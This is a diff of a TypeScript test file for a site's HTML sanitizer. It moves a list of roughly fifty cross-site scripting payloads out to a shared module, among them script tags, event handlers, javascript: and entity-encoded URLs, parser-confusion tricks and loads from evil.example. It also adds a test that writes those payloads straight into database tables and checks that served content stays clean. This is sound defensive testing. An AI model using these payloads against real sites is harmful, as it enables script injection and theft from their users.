@@ -13,6 +13,8 @@ import {
   putPromotion,
   readingRoutes,
 } from './index.ts'
+import * as sql from './reading-sql.ts'
+import { agreed, vectors } from './testing/vectors.ts'
 
 let house: House
 beforeAll(async () => {
@@ -33,84 +35,49 @@ const titled = (title: string, content = '<p>Isi.</p>') => ({
   EN: { title: `${title} EN`, content },
 })
 
-/** What would run: each is tried bare, and within what cleaners have been fooled by. */
-const vectors = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="/\\evil.example">x</a>',
-  '<a href="http://evil.example">x</a>',
-  '<a href="/help" onclick="alert(1)">x</a>',
-  '<a href="/help" style="position:fixed;inset:0">x</a>',
-  '<a href="/help" target="_blank">x</a>',
-  '<p onmouseover=alert(1)>x</p>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<body onload=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="javascript:alert(1)//">',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<style>@import "//evil.example/x.css";</style>',
-  '<form action="javascript:alert(1)"><button>x</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<isindex action="javascript:alert(1)">',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-]
-const around = [
-  (vector: string) => vector,
-  (vector: string) => `<p>x${vector}</p>`,
-  (vector: string) => `</p></li></ul>${vector}`,
-  (vector: string) => `<ul><li><strong>${vector.toUpperCase().replaceAll('ALERT', 'alert')}`,
-]
-
-/** Everything that may be left: the agreed tags, links to agreed places, and text. */
-const agreed =
-  /^(?:[^<>]|<\/?(?:h3|h4|p|strong|em|ul|ol|li|blockquote|a)>|<br \/>|<a(?: href="(?:\/(?![/\\])|https:\/\/|mailto:)[^"<>]*")(?: rel="noopener noreferrer")>)*$/i
-
 test('nothing of 200 ways to run a script is left of what is written (A26)', async () => {
-  const all = vectors.flatMap((vector) => around.map((wrap) => wrap(vector)))
-  expect(all.length).toBeGreaterThanOrEqual(200)
-  for (const vector of all) {
+  expect(vectors.length).toBeGreaterThanOrEqual(200)
+  for (const vector of vectors) {
     expect(clean(vector), vector).toMatch(agreed)
     expect(clean(clean(vector)), vector).toBe(clean(vector))
   }
-  const content = `<p>Isi.</p>${all.join('')}`.slice(0, 20_000)
+  const content = `<p>Isi.</p>${vectors.join('')}`.slice(0, 20_000)
   await house.store.transact((tx) =>
     putHelpArticle(tx, { id: 'xss', topic: 'play', place: 1, words: titled('X', content) }, act()),
   )
   const [article] = await ask('help', undefined)
   expect(article.content).toMatch(agreed)
+})
+
+test('what another hand wrote into the tables is clean when it is told (A26)', async () => {
+  const content = `<p>Isi.</p>${vectors.join('')}`
+  const words = { title: 'X', summary: 'S', content }
+  const both = JSON.stringify({ ID: words, EN: words })
+  const shut = { opensAt: house.clock.now(), closesAt: null }
+  await house.store.transact(async (tx) => {
+    await sql.putArticle(tx, { id: 'raw', topic: 'play', words: both, place: 2 })
+    await sql.putAnnouncement(tx, { id: 'raw', type: 'H', words: both, ...shut })
+    const offer = { id: 'raw', category: 'vip', picture: 'gunung', words: both, place: 2, ...shut }
+    await sql.putPromotion(tx, offer)
+  })
+  const articles = await ask('help', undefined)
+  const announced = await ask('announcements', { platform: 'W', execution: 'B', types: 'H' })
+  const told = [
+    articles.find(({ id }: { id: string }) => id === 'raw'),
+    announced.content[0],
+    (await ask('promotions', { category: 'vip' }))[0],
+    await ask('promotion', { id: 'raw' }),
+  ]
+  for (const { id, content } of told) {
+    expect(id).toBe('raw')
+    expect(content).toMatch(agreed)
+    expect(content).toContain('<p>Isi.</p>')
+  }
+  await house.ownerStore.transact(async (tx) => {
+    await tx.run`delete from site.promotion where id = 'raw'`
+    await tx.run`delete from site.announcement where id = 'raw'`
+    await tx.run`delete from site.help_article where id = 'raw'`
+  })
 })
 
 test('whatever is written, only agreed HTML is left, and cleaning again changes nothing', () => {
